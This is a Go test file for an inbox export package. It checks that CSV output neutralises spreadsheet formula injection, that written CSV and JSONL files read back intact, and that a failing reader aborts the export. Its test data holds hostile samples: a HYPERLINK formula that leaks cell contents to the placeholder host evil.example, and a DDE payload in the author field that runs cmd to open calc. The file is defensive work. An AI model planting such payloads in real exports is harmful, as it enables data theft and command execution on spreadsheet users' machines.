package file

import (
	"bytes"
	"encoding/csv"
	"errors"
	"iter"
	"strings"
	"testing"
	"time"

	"lotse/inbox"
)

func rowsOf(items ...inbox.Item) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		for i := range items {
			if !yield(RowOf(&items[i]), nil) {
				return
			}
		}
	}
}

// hostile are texts that a spreadsheet would run.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1;"klick")`, "+49 123", "-1", "@SUM(A1)", "\t=1", "\r=1x", " =1+1", "'=1", "''", "＝1", "\u00a0=1",
	"harmlos; mit \"Zeichen\"\nund Zeilen", "=", "'",
}

func items() []inbox.Item {
	var out []inbox.Item
	for i, text := range hostile {
		c := inbox.Content{
			Channel: "town", RemoteID: strings.Repeat("r", i+1), Text: text, PostedAt: time.Date(2026, 3, 3, 10, 0, i, 5e6, time.UTC),
			Author: inbox.Author{Name: "=cmd|' /C calc'!A0", Handle: "erika"}, Thread: "root", Kind: inbox.KindMention, Audience: inbox.AudienceDirect,
		}
		out = append(out, inbox.Item{ID: c.ID(), Content: c, Version: 1, Hash: c.Hash(), SeenAt: c.PostedAt})
	}
	return out
}

func TestNoFieldIsAFormula(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, rowsOf(items()...)); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
	r.Comma = ';'
	records, err := r.ReadAll()
	if err != nil || len(records) != len(hostile)+1 {
		t.Fatalf("%d records, %v", len(records), err)
	}
	for _, record := range records {
		for _, v := range record {
			if v != "" && strings.ContainsAny(v[:1], "=+-@\t\r") || strings.HasPrefix(strings.TrimLeft(v, " \u00a0"), "=") {
				t.Errorf("a spreadsheet would run %q", v)
			}
		}
	}
}

func TestWhatIsWrittenCanBeReadBack(t *testing.T) {
	want := items()
	for name, write := range map[string]func() (string, error){
		"x.csv": func() (string, error) {
			var b bytes.Buffer
			err := WriteCSV(&b, rowsOf(want...))
			return b.String(), err
		},
		"x.jsonl": func() (string, error) {
			var b bytes.Buffer
			err := WriteJSONL(&b, rowsOf(want...))
			return b.String(), err
		},
	} {
		content, err := write()
		if err != nil {
			t.Fatal(err)
		}
		res := read(t, name, content, Options{Partial: true})
		if len(res.Problems)+len(res.Warnings) != 0 || len(res.Observations) != len(want) {
			t.Fatalf("%s: %+v", name, res)
		}
		for i := range want {
			got := res.Observations[i]
			if got.ID() != want[i].ID || got.Hash() != want[i].Hash || got.Author != want[i].Content.Author ||
				got.Kind != inbox.KindMention || got.Audience != inbox.AudienceDirect || got.Thread != "root" {
				t.Errorf("%s: %q came back as %q (%+v)", name, want[i].Content.Text, got.Text, got.Author)
			}
		}
	}
}

func TestAReaderThatFailsStopsTheExport(t *testing.T) {
	bad := errors.New("store closed")
	rows := func(yield func(Row, error) bool) { yield(Row{}, bad) }
	if err := WriteCSV(&bytes.Buffer{}, rows); !errors.Is(err, bad) {
		t.Error(err)
	}
	if err := WriteJSONL(&bytes.Buffer{}, rows); !errors.Is(err, bad) {
		t.Error(err)
	}
}
